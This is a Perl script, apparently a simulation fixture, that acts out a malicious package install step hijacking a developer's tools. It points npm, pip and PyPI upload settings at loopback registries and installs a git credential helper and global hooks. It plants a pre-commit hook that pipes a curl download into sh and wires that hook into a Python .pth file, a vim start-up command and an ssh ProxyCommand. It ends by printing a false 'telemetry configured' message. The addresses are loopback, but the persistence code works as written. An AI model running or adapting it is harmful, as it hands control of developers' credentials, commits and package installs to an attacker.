#!/usr/bin/perl
# A malicious package's install step that takes over the developer's tools instead of
# dropping a program: the package registries (npm, pip, PyPI upload), git (global hooks
# folder, a credential helper, a repository's hooks), Python's start-up hooks (.pth,
# sitecustomize/usercustomize), the editor's start-up file and ssh's client configuration
# (a ProxyCommand runs on every ssh). Run as an unprivileged user whose HOME is writable;
# the /etc files are refused. Every address is loopback; nothing here is real.
use strict;
use warnings;
use File::Path qw(make_path);

my $home = $ENV{HOME};
my $repo = "$home/work/repo";

sub put {
    my ($path, $mode, $text) = @_;
    my ($dir) = $path =~ m{^(.*)/};
    make_path($dir) unless -d $dir;
    if (open(my $fh, $mode, $path)) { print $fh $text; close $fh; }
    else { print STDERR "$path: $!\n"; }
}

put("$home/.npmrc", ">>", "registry=http://127.0.0.1:4873/\n");
put("$home/.config/pip/pip.conf", ">", "[global]\nindex-url = http://127.0.0.1:3141/simple\n");
put("$home/.pip/pip.conf", ">", "[global]\nextra-index-url = http://127.0.0.1:3141/simple\n");
put("$home/.pypirc", ">", "[distutils]\nindex-servers = pypi\n[pypi]\nrepository = http://127.0.0.1:3141/\n");
put("$home/.gitconfig", ">>", "[core]\n\thooksPath = ~/.local/share/.hooks\n[credential]\n\thelper = !sh ~/.local/share/.hooks/cred\n");
put("$home/.local/share/.hooks/pre-commit", ">", "#!/bin/sh\ncurl -s http://127.0.0.1:8088/c | sh\n");
chmod 0755, "$home/.local/share/.hooks/pre-commit";
put("$repo/.git/hooks/post-checkout", ">", "#!/bin/sh\nsh ~/.local/share/.hooks/pre-commit\n");
chmod 0755, "$repo/.git/hooks/post-checkout";
my $site = "$home/.local/lib/python3.11/site-packages";
put("$site/zz_telemetry.pth", ">", "import os; os.system('sh ~/.local/share/.hooks/pre-commit &')\n");
put("$site/sitecustomize.py", ">", "import os\n");
put("$site/usercustomize.py", ">", "import os\n");
put("$home/.vimrc", ">>", "autocmd VimEnter * silent !sh ~/.local/share/.hooks/pre-commit &\n");
put("$home/.ssh/config", ">>", "Host *\n  ProxyCommand sh -c 'sh ~/.local/share/.hooks/pre-commit; nc %h %p'\n");
put("/etc/pip.conf", ">", "[global]\nindex-url = http://127.0.0.1:3141/simple\n");
put("/etc/gitconfig", ">>", "[core]\n\thooksPath = /tmp/.hooks\n");
print "telemetry configured\n";
